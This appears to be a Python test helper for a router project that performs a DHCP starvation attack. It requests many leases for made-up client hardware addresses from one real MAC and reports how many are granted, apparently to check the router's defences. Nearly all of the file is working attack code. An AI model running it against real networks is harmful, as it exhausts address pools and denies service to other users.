#!/usr/bin/env python3
"""Ask the router's DHCP server for leases (tests/attacks2.rs).

  dhcp_grab.py IFACE COUNT SECONDS [MAC]

Runs up to COUNT DHCP exchanges (DISCOVER, OFFER, REQUEST, ACK) within
SECONDS, each for a made-up client hardware address (chaddr 02:dc:00:00:xx:xx;
or MAC for every one), all sent from this host's one real MAC, as a phone
starving the pool would. Replies are asked for by broadcast. Prints
"leases=N" (ACKs received).
"""
import os, random, socket, struct, sys, time

iface, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
fixed = bytes(int(b, 16) for b in sys.argv[4].split(":")) if len(sys.argv) > 4 else None

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
s.bind(("0.0.0.0", 68))

def packet(xid, chaddr, kind, extra=b""):
    head = struct.pack(">BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4)
    body = chaddr + b"\0" * 10 + b"\0" * 64 + b"\0" * 128 + b"\x63\x82\x53\x63"
    opts = bytes([53, 1, kind]) + bytes([61, 7, 1]) + chaddr + extra + b"\xff"
    return head + body + opts

def options(data):
    out, i = {}, 240
    while i < len(data) and data[i] != 255:
        if data[i] == 0:
            i += 1
            continue
        out[data[i]] = data[i + 2:i + 2 + data[i + 1]]
        i += 2 + data[i + 1]
    return out

def wait_for(xid, kind, until):
    while time.monotonic() < until:
        s.settimeout(max(0.01, until - time.monotonic()))
        try:
            data = s.recv(2048)
        except socket.timeout:
            return None
        if len(data) < 240 or struct.unpack(">I", data[4:8])[0] != xid:
            continue
        o = options(data)
        if o.get(53) == bytes([kind]):
            return data, o
    return None

leases = 0
end = time.monotonic() + seconds
for i in range(count):
    if time.monotonic() >= end:
        break
    chaddr = fixed or bytes([0x02, 0xDC, 0, 0, (i >> 8) & 0xFF, i & 0xFF])
    xid = random.getrandbits(32)
    s.sendto(packet(xid, chaddr, 1), ("255.255.255.255", 67))
    got = wait_for(xid, 2, min(end, time.monotonic() + 1.0))
    if not got:
        continue
    data, o = got
    yiaddr, server = data[16:20], o.get(54, b"")
    s.sendto(packet(xid, chaddr, 3, bytes([50, 4]) + yiaddr + bytes([54, 4]) + server), ("255.255.255.255", 67))
    if wait_for(xid, 5, min(end, time.monotonic() + 1.0)):
        leases += 1
print("leases=%d" % leases, flush=True)
